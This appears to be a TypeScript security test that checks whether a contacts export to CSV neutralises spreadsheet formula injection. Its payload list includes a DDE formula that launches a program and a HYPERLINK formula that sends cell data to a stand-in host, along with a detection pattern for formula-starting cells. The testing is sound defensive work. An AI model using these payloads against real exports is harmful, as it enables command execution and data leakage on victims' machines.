import type { Figure } from '../../proof.ts'
import type { ServedWorld } from '../files/served-world.ts'
import { overWire } from '../files/wire-client.ts'
import { demand } from './asking.ts'

/** What a spreadsheet would calculate, fetch or start. */
const formulas: readonly string[] = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '-2+3+cmd|calc!A0',
  '@SUM(1+1)',
  '=HYPERLINK("http://xss.invalid?"&A1;"x")',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '＝1+1',
  '"=1+1"',
  ';=1+1',
  ',=1+1',
  'x\n=1+1',
]
const word = 'formula-row'
/** A cell that begins with what makes a formula of it, quoted or not, whatever separates cells. */
const live = /^[\s\u00a0\u200b\ufeff]*[=+\-@＝＋－＠]/

/** Lists that people take away: no cell of theirs may start anything in a spreadsheet. */
export async function proveExports(world: ServedWorld): Promise<readonly Figure[]> {
  for (const formula of formulas)
    await demand(world, 'POST', '/api/records/contacts.company', {
      name: formula,
      legalName: formula,
      description: `${formula}\n${formula}`,
      tags: [word],
    })
  const query = { filter: { tags: { has: word } } }
  const { text } = await overWire(world, {
    path: '/api/records/contacts.company/export',
    headers: { 'content-type': 'application/json' },
    body: Buffer.from(JSON.stringify({ query, fields: ['name', 'legalName', 'description'], format: 'csv' })),
  })
  const rows = cellsOf(text).slice(1)
  const running = rows.flat().filter((cell) => live.test(cell))
  return [
    {
      name: `cells of ${rows.length} exported rows that a spreadsheet would run`,
      value: running.length === 0 ? 0 : running.join(' | '),
      wanted: '0',
      isMet: rows.length === formulas.length && running.length === 0,
    },
  ]
}

/** Read as any program does that knows quotes. */
function cellsOf(text: string): readonly (readonly string[])[] {
  const separator = /^(?:\ufeff)?"?[^",;\t]*"?([,;\t])/.exec(text)?.[1] ?? ','
  const rows: string[][] = [[]]
  let cell = ''
  let isQuoted = false
  for (const [index, sign] of [...text].entries()) {
    if (sign === '"') isQuoted = !isQuoted
    if (sign === '"' && !(isQuoted && [...text][index - 1] === '"')) continue
    const isEnd = !isQuoted && (sign === separator || sign === '\n')
    if (!isEnd) cell += sign
    else {
      rows.at(-1)!.push(cell.replace(/\r$/, ''))
      cell = ''
      if (sign === '\n') rows.push([])
    }
  }
  return rows.filter((row) => row.length > 0)
}
